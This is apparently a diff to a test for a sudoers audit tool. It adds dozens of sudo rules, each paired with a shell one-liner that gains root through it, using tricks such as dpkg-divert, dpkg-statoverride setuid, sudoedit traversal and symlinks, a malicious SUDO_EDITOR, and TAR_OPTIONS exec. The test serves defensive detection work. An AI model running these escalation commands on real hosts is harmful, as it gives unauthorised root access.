@@ -108,13 +108,45 @@ CASES: dict[str, list[str]] = {
     "Defaults !env_reset\n@/usr/bin/perl /opt/app/x.pl": ["PERL5OPT=\"-IHOME/m -ME\" sudo -n perl /opt/app/x.pl"],
     "Defaults env_keep+=BASH_ENV\n@/bin/bash /opt/app/fixed.sh": ["BASH_ENV=HOME/own.sh sudo -n bash /opt/app/fixed.sh"],
     "Defaults env_keep+=TAR_OPTIONS\n@/bin/tar -czf /srv/x.tgz /opt": ["TAR_OPTIONS=\"--checkpoint=1 --checkpoint-action=exec=HOME/own.sh\" sudo -n tar -czf /srv/x.tgz /opt"],
+    "/usr/bin/systemd-tmpfiles *": ["printf \"f /root/MARK 0644 root root - x\\n\" >t.conf; sudo -n systemd-tmpfiles --create HOME/t.conf"],
+    "/usr/bin/systemd-tmpfiles --create": ["sudo -n systemd-tmpfiles --create"],
+    "/usr/bin/dpkg-divert *": ["sudo -n dpkg-divert --divert /etc/cron.d/MARK --rename --add HOME/cron"],
+    "/usr/bin/dpkg-statoverride *": ["sudo -n dpkg-statoverride --update --add root root 4755 /usr/bin/setpriv; /usr/bin/setpriv --reuid 0 touch /root/MARK; sudo -n dpkg-statoverride --remove /usr/bin/setpriv"],
+    "/usr/bin/dpkg-deb -x *": ["mkdir -p p/DEBIAN p/etc/cron.d; cp cron p/etc/cron.d/MARK; printf \"Package: x\\nVersion: 1\\nArchitecture: all\\nMaintainer: x\\nDescription: x\\n\" >p/DEBIAN/control; dpkg-deb -b p x.deb; sudo -n dpkg-deb -x x.deb /"],
+    "/usr/bin/dpkg-deb -I *": ["sudo -n dpkg-deb -I x.deb -x x.deb /"],
+    "/lib64/ld-linux-x86-64.so.2 *": ["sudo -n /lib64/ld-linux-x86-64.so.2 /usr/bin/touch /root/MARK"],
+    "/usr/sbin/ip link *": ["echo \"netns exec x HOME/own.sh\" >b; sudo -n ip link -batch b; sudo -n ip link show -batch b"],
+    "/usr/bin/column *": ["sudo -n column -o /etc/cron.d/MARK cron"],
+    "/usr/bin/gzip *": ["cp cron MARK; sudo -n gzip -S /etc/cron.d/MARK cron; sudo -n gzip MARK"],
+    "sudoedit /srv/*/*": ["EDIT /srv/../etc/cron.d/MARK; EDIT /srv/../root/MARK/x; true"],
+    "sudoedit /srv/*/*/*": ["EDIT /srv/../root/MARK"],
+    "sudoedit /home/*/cron.d/*": ["EDIT /home/../etc/cron.d/MARK"],
+    "sudoedit /home/*/x/etc/*": ["EDIT /home/../etc/cron.d/MARK"],
+    "sudoedit HOME/link": ["ln -s /etc/cron.d/MARK link; EDIT HOME/link"],
+    "FOLLOW: sudoedit HOME/link": ["ln -s /etc/cron.d/MARK link; EDIT HOME/link"],
+    "Defaults !sudoedit_checkdir\n@ sudoedit HOME/link": ["ln -s /etc/cron.d/MARK link; EDIT HOME/link"],
+    "Defaults !sudoedit_checkdir\n@FOLLOW: sudoedit HOME/link": ["ln -s /etc/cron.d/MARK link; EDIT HOME/link"],
+    "Defaults !sudoedit_checkdir, sudoedit_follow\n@ sudoedit HOME/*": ["ln -s /etc/cron.d/MARK link; EDIT HOME/link"],
+    "Defaults !sudoedit_checkdir\n@ sudoedit OWN/sub/MARK": ["ln -s /etc/cron.d OWN/sub; EDIT OWN/sub/MARK"],
+    "NAME ALL=(www-data) NOPASSWD: sudoedit /etc/cron.d/MARK": ["EDIT -u www-data /etc/cron.d/MARK"],
+    "NAME ALL=(:ops) NOPASSWD: ALL": ["sudo -n -g ops sudo -n touch /root/MARK"],
+    "NAME ALL=(:ops) NOPASSWD: /usr/bin/id": ["sudo -n -g ops id"],
+    "NAME ALL=(www-data) NOPASSWD: ALL, (root) NOPASSWD: /opt/www/run": ["cp own.sh /tmp/MARK; chmod 755 /tmp/MARK; sudo -n -u www-data cp /tmp/MARK /opt/www/run; sudo -n /opt/www/run"],
+    "NAME ALL=(www-data) NOPASSWD: /usr/bin/id, (root) NOPASSWD: /opt/www/run": ["sudo -n -u www-data id; sudo -n /opt/www/run"],
+    "NAME ALL=CWD=/srv NOPASSWD: /bin/sh own.sh": ["sudo -n sh own.sh"],
+    "NAME ALL=CWD=HOME NOPASSWD: /bin/sh own.sh": ["sudo -n sh own.sh"],
+    "NAME ALL=CWD=/srv/app NOPASSWD: /usr/bin/tee x.conf": ["echo a | sudo -n tee x.conf"],
+    "NAME ALL=CWD=~ NOPASSWD: /bin/sh own.sh": ["sudo -n sh own.sh"],
+    "NAME ALL=CWD=* NOPASSWD: /bin/sh own.sh": ["sudo -n -D HOME sh own.sh"],
 }  # fmt: skip
+EDITOR = 'printf "#!/bin/sh\\necho x >>\\$1\\n" >ed.sh; chmod 755 ed.sh; SUDO_EDITOR=HOME/ed.sh sudo -n -e'
 FILES = {
     "/opt/app/fixed.sh": "#!/bin/sh\ntrue\n",
     "/opt/app/x.pl": "1;\n",
     "/opt/app/bin/tool": "#!/bin/sh\ntrue\n",
     "/usr/local/bin/tool": "#!/bin/sh\ntrue\n",
     "/srv/app/x.conf": "a\n",
+    "/opt/www/run": "#!/bin/sh\ntrue\n",
     "/etc/hostname": "web1\n",
     "/etc/hosts": "127.0.0.1 localhost web1\n",
     "/etc/nsswitch.conf": "passwd: files\ngroup: files\nshadow: files\nhosts: files\n",
@@ -127,12 +159,14 @@ def _names() -> list[str]:
 
 
 def _own(text: str, name: str) -> str:
-    for word, value in (("HOME", f"/home/{name}"), ("OWN", f"/opt/own-{name}"), ("NAME", name), ("MARK", f"{name}-x")):
+    for word, value in (("EDIT", EDITOR), ("HOME", f"/home/{name}"), ("OWN", f"/opt/own-{name}"), ("NAME", name), ("MARK", f"{name}-x")):
         text = text.replace(word, value)
     return text
 
 
 def _rule(rule: str, name: str) -> str:
+    if rule.startswith("NAME "):
+        return f"{_own(rule, name)}\n"
     if not rule.startswith("Defaults"):
         return f"{name} ALL=NOPASSWD: {_own(rule, name)}\n"
     defaults, _, command = rule.partition("\n@")
@@ -147,9 +181,9 @@ def test_what_makes_one_root() -> None:
     files = {
         **FILES,
         "/etc/passwd": f"root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n{users}",
-        "/etc/group": f"root:x:0:\nwww-data:x:33:\n{groups}",
+        "/etc/group": f"root:x:0:\nwww-data:x:33:\nops:x:900:\n{groups}",
         "/etc/shadow": "".join(f"{name}:*:19000::::::\n" for name in ("root", "www-data", *names)),
-        "/etc/sudoers": "".join(_rule(rule, name) for name, rule in rules.items()),
+        "/etc/sudoers": "%ops ALL=NOPASSWD: ALL\n" + "".join(_rule(rule, name) for name, rule in rules.items()),
     }
     for name in names:
         files[f"/home/{name}/own.sh"] = f"#!/bin/sh\ntouch /root/{name}-x\n"
@@ -161,7 +195,8 @@ def test_what_makes_one_root() -> None:
             own = f"{2000 + number}:{2000 + number}"
             subprocess.run(["chown", "-R", own, f"home/{name}", f"opt/own-{name}"], cwd=root, check=True)
             subprocess.run(["chmod", "755", f"home/{name}/own.sh", f"opt/own-{name}/run.sh"], cwd=root, check=True)
-        subprocess.run(["chmod", "755", "opt/app/fixed.sh", "opt/app/bin/tool", "usr/local/bin/tool"], cwd=root, check=True)
+        subprocess.run(["chmod", "755", "opt/app/fixed.sh", "opt/app/bin/tool", "usr/local/bin/tool", "opt/www/run"], cwd=root, check=True)
+        subprocess.run(["chown", "-R", "33:33", "opt/www"], cwd=root, check=True)
         found = {outcome.subject: outcome.verdict.value for outcome in run(sudo_root, Host(lab.mounted(root)))}
         script = ["mount -t proc proc /proc 2>/dev/null; hostname web1; chmod o+x /"]
         for name, rule in rules.items():
